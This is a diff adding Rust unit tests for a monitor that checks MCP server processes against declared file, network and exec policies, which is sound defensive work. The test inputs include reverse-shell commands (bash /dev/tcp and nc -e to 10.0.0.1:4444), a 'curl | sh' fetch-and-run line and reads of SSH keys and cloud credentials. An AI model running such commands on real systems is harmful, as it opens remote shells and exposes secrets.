@@ -602,3 +602,293 @@ fn home_of(uid: u32) -> String {
         .map(|u| u.dir.to_string_lossy().into_owned())
         .unwrap_or_else(|| "/nonexistent".into())
 }
+
+#[cfg(test)]
+mod tests {
+    use std::path::Path;
+
+    use super::*;
+    use crate::policy::activity::{FileOp, NetOp, Proto};
+
+    fn argv(a: &[&str]) -> Vec<String> {
+        a.iter().map(|s| s.to_string()).collect()
+    }
+
+    fn manifest(text: &str) -> Arc<Manifest> {
+        Arc::new(Manifest::parse(Path::new("/m/srv.json"), text).expect("valid manifest"))
+    }
+
+    /// A server `srv` launched by the wrapper as `launch`, judged against `text`.
+    fn server(text: &str, launch: &[&str]) -> (ServerPolicy, ProcContext) {
+        let mut s = ServerPolicy::new(manifest(text), false, "/home/u".into());
+        let a = argv(launch);
+        s.launching(10, "/usr/local/bin/mcpwatch", &argv(&["mcpwatch", "exec", "--server", "srv", "--"]), None);
+        let ctx = ProcContext {
+            server: "srv".into(),
+            pid: 10,
+            ppid: 1,
+            uid: 1000,
+            exe: a[0].clone(),
+            argv: a.clone(),
+            ..Default::default()
+        };
+        let launched = s.evaluate(&ctx, &exec(&a[0], &a));
+        assert!(launched.is_empty(), "the launch is the host's command: {launched:?}");
+        (s, ProcContext { pid: 11, ppid: 10, ..ctx })
+    }
+
+    fn exec(path: &str, a: &[String]) -> Activity {
+        Activity::Exec(ExecActivity {
+            filename: path.into(),
+            argv: a.to_vec(),
+            ..Default::default()
+        })
+    }
+
+    fn open(path: &str, write: bool, result: i64) -> Activity {
+        Activity::File(FileActivity {
+            op: FileOp::Open,
+            path: path.into(),
+            path2: None,
+            read: !write,
+            write,
+            create: write,
+            truncate: false,
+            append: false,
+            directory: false,
+            result,
+            path_truncated: false,
+        })
+    }
+
+    fn connect(addr: &str, port: u16, hostname: Option<&str>) -> Activity {
+        Activity::Net(NetActivity {
+            op: NetOp::Connect,
+            proto: Proto::Tcp,
+            addr: Some(addr.parse().unwrap()),
+            port,
+            unix_path: None,
+            hostname: hostname.map(str::to_owned),
+            exposed: false,
+            result: 0,
+        })
+    }
+
+    fn rules(f: &[Finding]) -> Vec<&'static str> {
+        f.iter().map(|f| f.rule.id).collect()
+    }
+
+    const NODE: &[&str] = &["node", "/srv/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js", "/data/projects"];
+
+    #[test]
+    fn files_against_globs_tilde_and_arguments() {
+        let (mut s, ctx) = server(
+            r#"{"args": {"roots": {"from": "server-filesystem/dist/index\\.js$"}},
+                "read": ["${roots}", "~/notes/*.md"], "write": ["${roots}/out/**"]}"#,
+            NODE,
+        );
+        let mut check = |a: Activity| rules(&s.evaluate(&ctx, &a));
+        assert!(check(open("/data/projects/a/b.txt", false, 3)).is_empty(), "argument-bound root");
+        assert!(check(open("/home/u/notes/x.md", false, 3)).is_empty(), "~ is the owner's home");
+        assert_eq!(check(open("/home/u/notes/sub/x.md", false, 3)), ["file.read_undeclared"]);
+        assert!(check(open("/data/projects/out/r.txt", true, 3)).is_empty());
+        assert_eq!(check(open("/data/projects/a.txt", true, 3)), ["file.write_undeclared"], "read-only part");
+        assert_eq!(check(open("/etc/hostname", false, 3)), ["file.read_undeclared"]);
+        assert!(check(open("/etc/hostname", false, -2)).is_empty(), "a failed open touched nothing");
+        // The Node baseline: package tree, libraries, locale, certificates, own /proc.
+        for p in [
+            "/srv/node_modules/zod/lib/index.js",
+            "/usr/lib/x86_64-linux-gnu/libstdc++.so.6",
+            "/etc/ssl/certs/ca-certificates.crt",
+            "/proc/11/maps",
+            "/proc/self/status",
+            "/dev/null",
+        ] {
+            assert!(check(open(p, false, 3)).is_empty(), "{p}");
+        }
+        // Listing the directories on the way to a declared one.
+        let dir = Activity::File(FileActivity {
+            directory: true,
+            ..match open("/data", false, 3) {
+                Activity::File(f) => f,
+                _ => unreachable!(),
+            }
+        });
+        assert!(check(dir).is_empty());
+    }
+
+    #[test]
+    fn credentials_need_an_explicit_declaration() {
+        let (mut s, ctx) = server(r#"{"read": ["/home/u", "/srv/app/.env"]}"#, NODE);
+        let f = s.evaluate(&ctx, &open("/home/u/.ssh/id_rsa", false, 3));
+        assert_eq!(rules(&f), ["cred.ssh"], "a broad ~ does not declare keys");
+        assert_eq!(f[0].rule.severity, crate::alert::Severity::High);
+        assert_eq!(f[0].evidence["path"], "/home/u/.ssh/id_rsa");
+        assert_eq!(f[0].declared.as_ref().unwrap()["read"][0], "/home/u");
+        assert_eq!(
+            rules(&s.evaluate(&ctx, &open("/tmp/fake/.aws/credentials", false, -2))),
+            ["cred.cloud"],
+            "probing counts even when the open fails"
+        );
+        assert!(s.evaluate(&ctx, &open("/srv/app/.env", false, 3)).is_empty(), "named explicitly");
+        assert_eq!(rules(&s.evaluate(&ctx, &open("/home/u/.bash_history", true, 3))), ["cred.shell_history"]);
+    }
+
+    #[test]
+    fn npm_reads_its_own_npmrc_but_the_server_may_not() {
+        let (mut s, mut ctx) = server("{}", &["npx", "-y", "@modelcontextprotocol/server-memory"]);
+        ctx.exe = "/usr/bin/node".into();
+        ctx.argv = argv(&["node", "/usr/bin/npx", "-y", "@modelcontextprotocol/server-memory"]);
+        assert!(s.evaluate(&ctx, &open("/home/u/.npmrc", false, -2)).is_empty());
+        ctx.argv = argv(&["node", "/srv/node_modules/.bin/mcp-server-memory"]);
+        assert_eq!(rules(&s.evaluate(&ctx, &open("/home/u/.npmrc", false, 3))), ["cred.npmrc"]);
+    }
+
+    #[test]
+    fn network_hosts_suffixes_ports_and_pairs() {
+        let (mut s, ctx) = server(
+            r#"{"network": {"outbound": {"allow_host": [".github.com", "10.0.0.0/8", "localhost:5432"], "allow_port": [443]}}}"#,
+            NODE,
+        );
+        let mut check = |a: Activity| rules(&s.evaluate(&ctx, &a));
+        assert!(check(connect("140.82.112.3", 443, Some("api.github.com"))).is_empty());
+        assert_eq!(check(connect("140.82.112.3", 80, Some("api.github.com"))), ["net.connect_undeclared"]);
+        assert_eq!(check(connect("140.82.112.3", 443, Some("github.com.evil.io"))), ["net.connect_undeclared"]);
+        assert!(check(connect("10.1.2.3", 443, None)).is_empty());
+        assert!(check(connect("127.0.0.1", 5432, None)).is_empty(), "host:port pair");
+        assert!(check(connect("::ffff:127.0.0.1", 5432, None)).is_empty(), "IPv4-mapped");
+        assert_eq!(check(connect("127.0.0.1", 6379, None)), ["net.connect_undeclared"]);
+        assert!(check(connect("127.0.0.53", 53, None)).is_empty(), "DNS to the local resolver");
+        let unix = Activity::Net(NetActivity {
+            op: NetOp::Connect,
+            proto: Proto::Other,
+            addr: None,
+            port: 0,
+            unix_path: Some("/run/docker.sock".into()),
+            hostname: None,
+            exposed: false,
+            result: 0,
+        });
+        assert_eq!(check(unix), ["net.connect_undeclared"]);
+        let (mut all, ctx) = server(r#"{"network": {"outbound": {"insecure_allow_all": true}}}"#, NODE);
+        assert!(all.evaluate(&ctx, &connect("1.2.3.4", 4444, None)).is_empty());
+    }
+
+    #[test]
+    fn listening() {
+        let (mut s, ctx) = server(r#"{"listen": ["127.0.0.1:8080"]}"#, NODE);
+        let listen = |addr: &str, port: u16| {
+            Activity::Net(NetActivity {
+                op: NetOp::Listen,
+                proto: Proto::Tcp,
+                addr: Some(addr.parse().unwrap()),
+                port,
+                unix_path: None,
+                hostname: None,
+                exposed: false,
+                result: 0,
+            })
+        };
+        assert!(s.evaluate(&ctx, &listen("127.0.0.1", 8080)).is_empty());
+        assert_eq!(rules(&s.evaluate(&ctx, &listen("127.0.0.1", 9000))), ["net.listen_undeclared"]);
+        let f = s.evaluate(&ctx, &listen("0.0.0.0", 8080));
+        assert_eq!(rules(&f), ["net.listen_exposed"]);
+        assert_eq!(f[0].rule.severity, crate::alert::Severity::High);
+    }
+
+    #[test]
+    fn exec_rules() {
+        let (mut s, ctx) = server(r#"{"exec": ["git", "/opt/tools/*"]}"#, &["/v/bin/python", "-m", "mcp_server_git"]);
+        let mut check = |path: &str, a: &[&str]| rules(&s.evaluate(&ctx, &exec(path, &argv(a))));
+        assert!(check("/usr/bin/git", &["git", "status"]).is_empty(), "by name");
+        assert!(check("/opt/tools/x", &["x"]).is_empty(), "by path glob");
+        assert!(check("/v/bin/python3", &["python3", "-c", "pass"]).is_empty(), "the Python runtime");
+        assert_eq!(check("/usr/bin/node", &["node", "-e", "1"]), ["exec.undeclared"], "not a runtime it launched with");
+        assert_eq!(check("/usr/bin/curl", &["curl", "x"]), ["exec.undeclared"]);
+        assert_eq!(check("/usr/bin/bash", &["bash", "-c", "ls"]), ["exec.shell"]);
+        assert_eq!(check("/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]), ["exec.reverse_shell"]);
+        assert_eq!(check("/usr/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]), ["exec.reverse_shell"]);
+        let fileless = Activity::Exec(ExecActivity {
+            filename: "/proc/self/fd/3".into(),
+            fileless: true,
+            ..Default::default()
+        });
+        assert_eq!(rules(&s.evaluate(&ctx, &fileless)), ["exec.fileless"]);
+        let socket_shell = Activity::Exec(ExecActivity {
+            filename: "/bin/sh".into(),
+            argv: argv(&["/bin/sh", "-i"]),
+            stdio: [Some(StdioKind::Socket), Some(StdioKind::Socket), Some(StdioKind::Pipe)],
+            ..Default::default()
+        });
+        let f = s.evaluate(&ctx, &socket_shell);
+        assert_eq!(rules(&f), ["exec.reverse_shell"]);
+        assert_eq!(f[0].evidence["stdio"], json!(["socket", "socket", "pipe"]));
+    }
+
+    #[test]
+    fn write_then_exec_from_file_events_and_the_kernel_flag() {
+        let (mut s, ctx) = server(r#"{"write": ["/tmp/work"], "exec": ["sh"]}"#, NODE);
+        assert!(s.evaluate(&ctx, &open("/tmp/work/run.sh", true, 4)).is_empty());
+        let f = s.evaluate(&ctx, &exec("/tmp/work/run.sh", &argv(&["/tmp/work/run.sh"])));
+        assert_eq!(rules(&f), ["exec.write_then_exec"]);
+        let f = s.evaluate(&ctx, &exec("/bin/sh", &argv(&["sh", "/tmp/work/run.sh"])));
+        assert_eq!(rules(&f), ["exec.write_then_exec"], "a written script given to a shell");
+        let flagged = Activity::Exec(ExecActivity {
+            filename: "/tmp/other".into(),
+            argv: argv(&["/tmp/other"]),
+            written_by_server: true,
+            ..Default::default()
+        });
+        assert_eq!(rules(&s.evaluate(&ctx, &flagged)), ["exec.write_then_exec"]);
+    }
+
+    #[test]
+    fn npx_runs_bins_through_sh_c_without_alert() {
+        let (mut s, mut ctx) = server("{}", &["npx", "-y", "@modelcontextprotocol/server-memory"]);
+        ctx.ancestry = vec![(10, "/usr/bin/node".into())];
+        ctx.parent_argv = argv(&["node", "/usr/bin/npx", "-y", "@modelcontextprotocol/server-memory"]);
+        let f = s.evaluate(&ctx, &exec("/bin/sh", &argv(&["sh", "-c", "mcp-server-memory"])));
+        assert!(f.is_empty(), "{f:?}");
+        let f = s.evaluate(&ctx, &exec("/bin/sh", &argv(&["sh", "-c", "curl http://x | sh"])));
+        assert_eq!(rules(&f), ["exec.shell"]);
+        let env_node = Activity::Exec(ExecActivity {
+            filename: "/srv/node_modules/.bin/mcp-server-memory".into(),
+            interp: Some("/usr/bin/env".into()),
+            argv: argv(&["/usr/bin/env", "node", "/srv/node_modules/.bin/mcp-server-memory"]),
+            ..Default::default()
+        });
+        assert!(s.evaluate(&ctx, &env_node).is_empty(), "#!/usr/bin/env node");
+    }
+
+    #[test]
+    fn risky_operations() {
+        let (mut s, ctx) = server("{}", NODE);
+        let risky = |op, target_pid| Activity::Risky(RiskyActivity { op, target_pid });
+        let f = s.evaluate(&ctx, &risky(RiskyOp::Ptrace, Some(999)));
+        assert_eq!(rules(&f), ["proc.ptrace"]);
+        assert_eq!(f[0].rule.mitre.unwrap().0, "T1055.008");
+        assert_eq!(rules(&s.evaluate(&ctx, &risky(RiskyOp::ProcMem, Some(999)))), ["proc.memory"]);
+        assert!(s.evaluate(&ctx, &risky(RiskyOp::ProcMem, Some(11))).is_empty(), "its own memory");
+        assert_eq!(rules(&s.evaluate(&ctx, &risky(RiskyOp::ProcEnviron, Some(1)))), ["proc.environ"]);
+        assert_eq!(rules(&s.evaluate(&ctx, &risky(RiskyOp::InitModule, None))), ["priv.kernel_module"]);
+        assert_eq!(rules(&s.evaluate(&ctx, &risky(RiskyOp::SetUid, None))), ["priv.setid"]);
+        // The file open of another process's memory is left to the risky event.
+        assert!(s.evaluate(&ctx, &open("/proc/999/mem", false, 3)).is_empty());
+    }
+
+    #[test]
+    fn engine_binds_manifests_by_name_or_command_line_and_rebinds_on_reload() {
+        let mut e = Engine::default();
+        let git = manifest(r#"{"name": "git", "match": {"argv": ["mcp_server_git"]}, "exec": ["git"]}"#);
+        e.set_manifests(vec![git]);
+        assert!(!e.on_watch("git", 1, 0, "/v/bin/python", &argv(&["python", "-m", "mcp_server_git"]), None));
+        assert!(!e.on_watch("my-git", 2, 0, "/v/bin/python", &argv(&["python", "-m", "mcp_server_git"]), None));
+        assert!(e.on_watch("other", 3, 0, "/usr/bin/node", &argv(&["node", "x.js"]), None), "undeclared");
+        assert!(!e.on_watch("other", 4, 0, "/usr/bin/node", &argv(&["node", "x.js"]), None), "flagged once");
+        assert_eq!(e.server("my-git").unwrap().manifest.name, "git");
+        assert!(e.server("other").unwrap().undeclared);
+        e.set_manifests(vec![manifest(r#"{"name": "other"}"#)]);
+        assert!(!e.server("other").unwrap().undeclared, "a manifest that appears applies at once");
+        assert!(e.server("git").unwrap().undeclared, "one that goes away leaves least privilege");
+    }
+}
